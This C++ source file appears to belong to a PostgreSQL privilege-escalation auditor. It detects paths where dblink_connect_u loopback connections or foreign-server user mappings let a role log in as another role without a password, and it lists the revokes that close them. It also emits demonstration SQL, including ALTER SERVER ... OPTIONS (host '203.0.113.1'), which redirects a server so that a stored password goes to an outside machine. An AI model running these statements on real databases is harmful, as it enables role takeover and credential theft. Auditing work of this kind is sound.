// ESC-FDW-LOOP, ESC-USERMAP: connections that the server itself opens.
//
//   dblink_connect_u('user=postgres')     comes from the server: local, by its own account
//   CREATE USER MAPPING FOR PUBLIC SERVER back OPTIONS (user 'boss', password '...')
//
// Only dblink_connect_u, and mappings with password_required=false, need no password (manual
// sections F.12, F.38); without a grant the first is the superuser's alone.

#include <fmt/format.h>

#include <algorithm>

#include "escalation/code_flow.hpp"
#include "escalation/edge.hpp"
#include "model/objects_of.hpp"
#include "net/address_set.hpp"
#include "pg/identifier.hpp"
#include "pg/option_list.hpp"
#include "privileges/foreign_server.hpp"
#include "text/display.hpp"

namespace pgleast {
namespace {

std::string option_of(const ForeignServerDetail& server, std::string_view name) {
  return option_value(server.options, name).value_or("");
}

// Whom the server's own account can be: by trust, or by peer where names are equal.
struct Loop {
  RoleSet trusted, peers;
};

// Whether the server itself may come by it: over the socket or loopback.
bool takes_the_server(const HbaRecord& record) {
  if (record.type == ConnectionType::local || record.address.kind != AddressKind::ip) return true;
  bool exact = true;
  const auto loopback = AddressSet::loopback();
  const auto taken = addresses_of(record.address.address, record.address.mask, exact);
  return !(loopback.without(taken) == loopback);
}

std::optional<Loop> loop_of(const Context& context) {
  const auto trusted = context.logs_in(
      [](const HbaRecord& r) { return r.method == "trust" && takes_the_server(r); });
  const auto peers = context.logs_in([](const HbaRecord& r) { return r.method == "peer"; });
  if (!trusted || !peers) return std::nullopt;
  return Loop{*trusted, *peers};
}

void offer_goals(const Context& context, const Offer& offer, std::vector<Offer>& offers) {
  const auto loop = loop_of(context);
  for (std::uint32_t i = 0; i < context.cluster().roles.size(); ++i) {
    const auto& role = context.cluster().roles[i];
    const bool trusted = loop && loop->trusted.has(RoleId{i});
    if (!role.login || RoleId{i} == offer.holder || (!role.superuser && !trusted)) continue;
    auto one = offer;
    one.to.role = RoleId{i};
    one.becomes = Mode::login;
    if (!loop || (!trusted && loop->peers.has(RoleId{i}))) {
      one.certain = false;
      one.why = loop ? "if the server's account is called so" : "pg_hba.conf was not read";
      offers.push_back(std::move(one));
    } else if (trusted) {
      offers.push_back(std::move(one));
    }
  }
}

// Connects to the server itself as `role`, and asks there.
std::vector<std::string> connecting_statements(const Context& context, const Object& f,
                                               RoleId role) {
  const auto schema = context.sql(f.schema);
  const auto value = [&](const std::string& name) {
    std::string quoted = "'";
    for (const char c : name) {
      if (c == '\'' || c == '\\') quoted += '\\';
      quoted += c;
    }
    return quoted + "'";
  };
  auto target = fmt::format("dbname={} user={}", value(context.cluster().object(f.database).name),
                            value(context.cluster().role_name(role)));
  const auto* const folders = context.cluster().find_setting("unix_socket_directories");
  const auto* const port = context.cluster().find_setting("port");
  if (folders != nullptr && folders->value.starts_with('/')) {
    target += " host=" + value(folders->value.substr(0, folders->value.find(',')));
  }
  if (port != nullptr) target += " port=" + value(port->value);
  // One of the two takes a name for the connection.
  const auto* const named = f.identity.find(',') == std::string::npos ? "" : "'c', ";
  return {fmt::format("SELECT {}.dblink_connect_u({}{});", schema, named, quote_literal(target)),
          fmt::format("SELECT * FROM {}.dblink({}'SELECT current_user') AS answer (who name);",
                      schema, named)};
}

}  // namespace

void find_loopback(const Context& context, std::vector<Offer>& offers) {
  for (const auto id : objects_of(context.cluster(), ObjectKind::function)) {
    const auto& f = context.cluster().object(id);
    if (!f.extension || f.name != "dblink_connect_u") continue;
    Offer offer;
    offer.objects = {id};
    offer.all = {{f.schema, Privilege::usage}};
    std::vector<Offer> holders;
    context.offer_to_holders(id, Privilege::execute, offer, holders);
    for (const auto& h : holders) offer_goals(context, h, offers);
  }
  // A superuser's function that connects where it is told: it needs no password.
  const auto& flow = context.flow();
  for (const auto id : objects_of(context.cluster(), ObjectKind::function)) {
    const auto& f = context.cluster().object(id);
    if (!context.cluster().function(f).security_definer) continue;
    const auto given = flow.given(id);
    const bool connects = std::any_of(
        given.begin(), given.end(), [](const auto& g) { return g.first == Given::To::connection; });
    if (!connects || !context.cluster().role(f.owner).superuser) continue;
    Offer offer;
    offer.objects = {id};
    offer.all = {{f.schema, Privilege::usage}};
    std::vector<Offer> holders;
    context.offer_to_holders(id, Privilege::execute, offer, holders, f.owner);
    for (const auto& h : holders) offer_goals(context, h, offers);
  }
}

void describe_loopback(const Context& context, const Offer& offer, Step& step) {
  step.how = fmt::format("{} may call {}: the server connects to itself as {}, for no password",
                         context.shown(step.from), context.shown(offer.objects),
                         context.shown(offer.to.role));
  if (!offer.certain) step.how += "; " + offer.why;
  const auto& f = context.cluster().object(offer.objects.front());
  if (f.extension) step.statements = connecting_statements(context, f, offer.to.role);
  step.cut = context.revoked(offer, step.from, Privilege::execute);
}

namespace {

// The owner of the server says where it leads: whoever it is for sends the password there.
void offer_to_owner(const Context& context, std::size_t m, std::vector<Offer>& offers) {
  const auto& cluster = context.cluster();
  const auto& mapping = cluster.user_mappings[m];
  const auto& server = cluster.object(mapping.server);
  if (cluster.role(server.owner).superuser || mapping.role == server.owner) return;
  if (mapping.role == public_role) return;
  if (mapping.options_seen && !mapping.stored_password) return;
  const auto back = leads_back(cluster, cluster.foreign_server(server));
  const auto role = cluster.find_role(mapping.user);
  Offer offer;
  offer.holder = server.owner;
  offer.holding = Holding::inherits;
  offer.objects = {mapping.server};
  offer.item = m + cluster.user_mappings.size();
  offer.needs_victim = true;
  offer.certain = mapping.options_seen;
  offer.becomes = Mode::login;
  if (role && back.value_or(false)) {
    offer.to.role = *role;
  } else {
    offer.to.power = Power::elsewhere;
  }
  offers.push_back(std::move(offer));
}

void describe_owner(const Context& context, const Offer& offer, const UserMapping& mapping,
                    Step& step) {
  const auto server = offer.objects.front();
  step.how = fmt::format(
      "{} owns foreign server {} and points it at a machine of its own: {} sends the password "
      "that is stored for {} there",
      context.shown(step.from, offer.holder), context.shown(server), context.shown(mapping.role),
      mapping.user.empty() ? std::string("somebody") : displayed(mapping.user));
  const auto& detail = context.cluster().foreign_server(context.cluster().object(server));
  step.statements = {fmt::format("ALTER SERVER {} OPTIONS ({} host '203.0.113.1');",
                                 context.sql(server),
                                 option_of(detail, "host").empty() ? "ADD" : "SET")};
  step.cut = context.revoked(offer, step.from, Privilege::usage);
}

}  // namespace

void find_user_mapping(const Context& context, std::vector<Offer>& offers) {
  const auto& cluster = context.cluster();
  for (std::size_t m = 0; m < cluster.user_mappings.size(); ++m) {
    offer_to_owner(context, m, offers);
    const auto& mapping = cluster.user_mappings[m];
    const auto& server = cluster.object(mapping.server);
    const auto back = leads_back(cluster, cluster.foreign_server(server));
    const auto role = cluster.find_role(mapping.user);
    if (back && !*back) continue;
    if (mapping.options_seen && !mapping.stored_password && mapping.password_required) continue;
    if (mapping.options_seen && !role && back) continue;
    Offer offer;
    offer.objects = {mapping.server};
    offer.item = m;
    offer.certain = mapping.options_seen && back.has_value();
    offer.becomes = Mode::login;
    if (role && back) {
      offer.to.role = *role;
    } else {
      offer.to.power = Power::elsewhere;
    }
    if (mapping.role != public_role) {
      offer.holder = mapping.role;
      offer.all = {{mapping.server, Privilege::usage}};
      offers.push_back(std::move(offer));
    } else {
      context.offer_to_holders(mapping.server, Privilege::usage, offer, offers);
    }
  }
}

void describe_user_mapping(const Context& context, const Offer& offer, Step& step) {
  const auto& mappings = context.cluster().user_mappings;
  if (offer.item >= mappings.size()) {
    return describe_owner(context, offer, mappings[offer.item - mappings.size()], step);
  }
  const auto& mapping = mappings[offer.item];
  const auto user = mapping.user.empty() ? std::string("somebody") : displayed(mapping.user);
  step.how = fmt::format("{} may use foreign server {}, which connects as {}{}",
                         context.shown(step.from), context.shown(offer.objects), user,
                         mapping.stored_password ? " by a stored password" : "");
  if (!offer.certain) step.how += "; where that leads cannot be told from here";
  const auto& server = context.cluster().object(offer.objects.front());
  const auto wrapper = context.cluster().foreign_server(server).wrapper;
  if (wrapper != no_object && context.cluster().object(wrapper).name == "postgres_fdw") {
    step.statements = {
        fmt::format("CREATE FOREIGN TABLE pg_temp.they (rolname name) SERVER {} OPTIONS "
                    "(schema_name 'pg_catalog', table_name 'pg_roles');",
                    context.sql(offer.objects.front())),
        "TABLE pg_temp.they;"};
  }
  if (mapping.role == public_role) {
    step.cut = context.revoked(offer, step.from, Privilege::usage);
    return;
  }
  // Whatever lets it use the server: the mapping itself holds a secret that nothing brings back.
  std::vector<Offer> grantees;
  context.offer_to_holders(mapping.server, Privilege::usage, {}, grantees);
  for (auto& grantee : grantees) {
    const bool holds = grantee.holder == public_role ||
                       context.graph().reach(step.from, Closure::inherits).has(grantee.holder);
    if (!holds) continue;
    grantee.objects = offer.objects;
    const auto remedies = context.revoked(grantee, step.from, Privilege::usage);
    step.cut.insert(step.cut.end(), remedies.begin(), remedies.end());
  }
}

}  // namespace pgleast
